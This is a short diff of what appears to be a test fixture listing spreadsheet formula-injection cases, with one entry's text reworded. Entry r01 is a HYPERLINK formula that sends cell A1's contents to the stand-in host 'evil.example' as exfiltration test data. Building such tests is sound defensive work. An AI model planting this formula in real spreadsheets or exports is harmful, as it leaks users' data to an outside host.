@@ -31,7 +31,7 @@ REPO = Path(__file__).resolve().parents[2]
 
 FORMULAS = {
     "r01": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-    "r02": "+44 7700 900123 is the number we all rang in the end",
+    "r02": "+3 volunteers joined in the end, which is the number we needed",
     "r03": "-2 volunteers this month, which hurt the Tuesday sessions",
     "r04": "@channel the hub is closed on Friday for the staff away day",
     "r05": "=1+1 is what the spreadsheet said, and nobody trusted it after that",
